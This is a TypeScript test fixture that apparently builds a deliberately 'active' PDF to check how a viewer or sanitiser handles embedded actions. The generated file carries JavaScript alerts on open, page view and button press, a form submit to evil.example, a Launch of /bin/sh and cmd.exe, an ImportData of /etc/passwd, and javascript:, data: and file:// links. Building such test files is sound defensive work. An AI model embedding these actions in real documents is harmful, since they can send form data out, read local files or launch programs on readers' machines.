import { readFileSync } from 'node:fs';
import { textPdf } from '../harness/index.ts';

/** A font to put into the file: one of those that come with pdf.js. */
const FONT = 'node_modules/pdfjs-dist/standard_fonts/LiberationSans-Regular.ttf';

/** Where a link of the file leads honestly. */
export const HONEST = 'https://www.un.org/en/honest';

const script = (code: string) => `<< /S /JavaScript /JS (${code.replace(/[()]/g, '\\$&')}) >>`;
const ALERT = script('app.alert("hello"); this.submitForm("https://evil.example/form");');

/** What a link of a file may do when it is pressed; only the first is a link to the web. */
const ACTIONS = [
  `<< /S /URI /URI (${HONEST}) >>`,
  '<< /S /URI /URI (javascript:document.title="taken") >>',
  '<< /S /URI /URI (data:text/html,taken) >>',
  '<< /S /URI /URI (file:///etc/passwd) >>',
  '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>',
  ALERT,
  '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> >>',
  '<< /S /ImportData /F (/etc/passwd) >>',
  '<< /S /Named /N /Print >>',
];

const link = (action: string, row: number) =>
  `<< /Type /Annot /Subtype /Link /Rect [72 ${600 - row * 30} 300 ${620 - row * 30}] /A ${action} >>`;
const field =
  '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [320 600 400 620] ' +
  `/A ${ALERT} /AA << /E ${ALERT} /D ${ALERT} /PO ${ALERT} >> >>`;

/** The font of the file, in objects of numbers that are free. */
function embeddedFont(): string {
  const letters = readFileSync(FONT).toString('hex');
  return (
    `90 0 obj\n<< /Length ${letters.length + 1} /Filter /ASCIIHexDecode >>\nstream\n${letters}>\nendstream\nendobj\n` +
    '91 0 obj\n<< /Type /FontDescriptor /FontName /AAAAAA+Liberation /Flags 32 /FontBBox [0 -200 1000 900] ' +
    '/ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 90 0 R >>\nendobj\n'
  );
}

/**
 * A file that does everything that a file can do of its own: scripts as it opens, as a page comes and at a press, programs,
 * forms that send themselves away, a form in XFA; and it has a font of its own. The table of its objects is off: every viewer finds them all the same.
 */
export function activePdf(): Buffer {
  const onOpen =
    `/OpenAction ${ALERT} /AA << /WC ${ALERT} >> /Names << /JavaScript << /Names [(a) ${ALERT}] >> >> ` +
    '/AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>) >>';
  const onPage = `/AA << /O ${ALERT} >> /Annots [${ACTIONS.map(link).join(' ')} ${field}]`;
  const plain = textPdf([['A/79/601', '', 'Recalling its resolution 70/1,']]);
  return Buffer.from(
    Buffer.from(plain)
      .toString('latin1')
      .replace('/Type /Catalog', `/Type /Catalog ${onOpen}`)
      .replace('/Type /Page ', `/Type /Page ${onPage} `)
      .replace(
        '/Subtype /Type1 /BaseFont /Helvetica',
        '/Subtype /TrueType /BaseFont /AAAAAA+Liberation /FontDescriptor 91 0 R',
      )
      .replace('xref\n', () => `${embeddedFont()}xref\n`),
    'latin1',
  );
}
